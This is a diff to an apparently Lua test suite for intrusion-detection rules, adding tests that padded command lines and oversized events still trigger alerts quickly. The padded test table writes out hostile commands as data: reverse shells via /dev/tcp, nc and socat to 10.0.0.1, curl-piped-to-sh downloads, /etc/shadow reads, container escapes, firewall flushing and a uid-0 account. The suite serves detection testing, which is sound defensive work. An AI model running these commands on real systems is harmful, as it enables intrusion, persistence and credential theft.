@@ -37,6 +37,18 @@ local function sh(text, fields)
   return exec({ "sh", "-c", text }, fields)
 end
 
+-- A program, `count` times one argument, and what else is given.
+local function many(program, argument, count, ...)
+  local args = { program }
+  for i = 1, count do
+    args[i + 1] = argument
+  end
+  for i = 1, select("#", ...) do
+    args[#args + 1] = select(i, ...)
+  end
+  return args
+end
+
 -- --- the harness ------------------------------------------------------------------------------------
 
 local function told(host)
@@ -579,6 +591,7 @@ script("ld-preload", {
     ["an audit library"] = exec({ "ls" }, env("LD_AUDIT", "/home/u/a.so")),
     ["a shell's text"] = sh "LD_PRELOAD=/tmp/T1574006.so ls",
     ["env"] = exec { "env", "LD_PRELOAD=/dev/shm/x.so", "ls" },
+    ["env behind more variables than fit on a stack"] = exec(many("env", "A=", 9000, "LD_PRELOAD=/dev/shm/x.so", "ls")),
   },
   misses = {
     ["a library of the system"] = exec({ "ls" }, env("LD_PRELOAD", "/usr/lib/libfakeroot.so")),
@@ -1105,6 +1118,53 @@ script("timestomp", {
 
 local scripts_table = require "scripts_table"
 
+-- What is put before it does not hide what a command line is about: `PAD` stands where there is room for it.
+local padded = {
+  { "reverse-shell", "bash", "-c", "PADbash -i >& /dev/tcp/10.0.0.1/4242 0>&1" },
+  { "reverse-shell", "sh", "-c", "PADmkfifo /tmp/f; PAD cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f" },
+  { "reverse-shell", "python3", "-c", 'PADimport socket,os;os.dup2(1,0);os.system("/bin/sh")' },
+  { "reverse-shell", "socat", "-lp", "PAD", "TCP:10.0.0.1:4444", "EXEC:'  bash -li'" },
+  { "tunnels", "ssh", "host", "PAD cat > x" },
+  { "tunnels", "curl", "-H", "PAD", "-F", "f=@/etc/hosts", "http://x/" },
+  { "container-escape", "docker", "run", "-e", "PAD", "--privileged", "x" },
+  { "container-escape", "nsenter", "PAD", "-t", "1", "sh" },
+  { "container-escape", "mount", "-t", "cgroup", "-o", "PAD,rdma", "cgroup", "/mnt" },
+  { "container-escape", "sh", "-c", "PAD echo /x > /sys/fs/cgroup/rdma/release_agent" },
+  { "defence-off", "iptables", "-m", "comment", "--comment", "PAD", "-F" },
+  { "defence-off", "sysctl", "PAD", "kernel.randomize_va_space=0" },
+  { "account-commands", "useradd", "-c", "PAD", "-o", "-u", "0", "x", severity = "high" },
+  { "credential-files", "sed", "-e", "PAD", "p", "/proc/1234/environ" },
+  { "credential-files", "sh", "-c", "PAD while read l; do :; done < /etc/shadow" },
+  { "offensive-tools", "bash", "-c", "PADfor p in 1 2; do echo > /dev/tcp/host/$p; done" },
+  { "setuid-bit", "find", "PAD", "-perm", "-4000" },
+  { "shell-breakout", "vim", "PAD", "-c", ":!PAD/bin/sh" },
+  { "shell-breakout", "tar", "PAD", "--checkpoint-action=exec=PAD/bin/sh" },
+  { "shell-breakout", "awk", "PADBEGIN {system(  \"/bin/sh\")}" },
+  { "log-wiping", "bash", "-c", "PADhistory -c" },
+  { "cron-persistence", "sh", "-c", "PADecho x > /etc/cron.d/x" },
+  { "ld-preload", "sh", "-c", "PADLD_PRELOAD=/tmp/x.so ls" },
+  { "download-and-execute", "sh", "-c", "PADcurl http://x/a | sh" },
+}
+local paddings = { blanks = (" "):rep(20000), newlines = ("\n"):rep(20000), tabs = (" \t"):rep(10000),
+  ["a long word"] = ":" .. ("x"):rep(20000) .. "; ", ["words that say nothing"] = ": " .. ("y "):rep(1000) .. "; " }
+
+describe("padding hides nothing:", function()
+  for _, case in ipairs(padded) do
+    for what, padding in pairs(paddings) do
+      it(("%s, %s, %s"):format(case[1], table.concat(case, " ", 2), what), function()
+        local args = {}
+        for i = 2, #case do
+          args[i - 1] = case[i]:gsub("PAD", padding)
+        end
+        local host = script_host.new():load("scripts/" .. case[1] .. ".lua")
+        exec(args)(host)
+        assert.is_true(#host.alerts > 0)
+        assert.equal(case.severity or host.alerts[1].severity, host.alerts[1].severity)
+      end)
+    end
+  end
+end)
+
 -- Who starts a process chooses its text. In the sandbox a call has 50 ms; a pattern whose time grows with a power of
 -- the length takes seconds for this.
 local programs = { "sh", "nc", "python3", "find", "vim", "tar", "docker", "cat", "sed", "chmod", "useradd", "script",
@@ -1126,6 +1186,83 @@ describe("a long text that is made for it", function()
       end
     end)
   end
+end)
+
+-- As much as an event holds, in all the ways that it can be full of one thing.
+local function filled(program)
+  local full, rows = 64 * 1024, {}
+  local fillings = { blanks = " ", letters = "a", slashes = "/", dots = ".", ["double quotes"] = '"', quotes = "'",
+    backslashes = "\\", newlines = "\n", bytes = "\1\27\127\128\255%[", hyphens = "-", signs = "<>|;",
+    dollars = "$",
+    commas = "a,", colons = "/:", escapes = "\\a", commands = "a;", files = ">a ", shells = " sh", networks = "/dev/tcp/" }
+  for what, piece in pairs(fillings) do
+    local text = piece:rep(full / #piece)
+    rows["an argument of " .. what] = { program, text }
+    rows["an argument behind -c of " .. what] = { program, "-c", text }
+    rows["a variable of " .. what] = { program, "LD_PRELOAD=" .. text }
+    rows["a name of " .. what] = { text:sub(1, 20000), "x" }
+  end
+  for _, argument in ipairs { "", "a", "-", "-c", "--", "-x", "/", "sh", "stop" } do
+    rows["30,000 arguments " .. argument] = many(program, argument, 30000)
+  end
+  local different = { program }
+  for i = 1, 10000 do
+    different[i + 1] = ("-%c%c%c"):format(97 + i % 26, 97 + i / 26 % 26, 97 + i / 676 % 26)
+  end
+  rows["10,000 different options"] = different
+  rows["no arguments"] = {}
+  rows["an empty argument"] = { "" }
+  return rows
+end
+
+-- What this much of plain interpreted work takes here and now: a tenth of what a call may take on a machine of today.
+local function calibrate()
+  local from, sum = os.clock(), 0
+  for i = 1, 1000000 do
+    sum = sum + i % 7
+  end
+  return os.clock() - from
+end
+
+describe("events that are as full as they can be", function()
+  local all, measure = {}, math.huge
+  setup(function()
+    for _, program in ipairs(programs) do
+      all[program] = filled(program)
+    end
+    for _ = 1, 5 do
+      measure = math.min(measure, calibrate())
+    end
+  end)
+
+  -- The fastest of three, as others may run meanwhile.
+  local function took(host, parent, program, args)
+    local best = math.huge
+    for _ = 1, 3 do
+      local exe = args[1] ~= program and "/usr/bin/x" or nil
+      local from = os.clock()
+      host:exec(parent, args, { exe = exe, comm = program, container = "c" })
+      best = math.min(best, os.clock() - from)
+      if best < measure then
+        break
+      end
+    end
+    return best
+  end
+
+  for _, name in ipairs(scripts_table.names()) do
+    it("are no error and take no long time: " .. name, function()
+      local host = script_host.new():load("scripts/" .. name .. ".lua")
+      local parent = ancestors(host, { "systemd", "sshd", "bash" })
+      for _, program in ipairs(programs) do
+        for what, args in pairs(all[program]) do
+          local best = took(host, parent, program, args)
+          assert.is_true(best < 6 * measure, ("%s, %s: %.1f times"):format(program, what, best / measure))
+        end
+      end
+    end)
+  end
+  teardown(function() all = nil end)
 end)
 
 describe("each of scripts/", function()
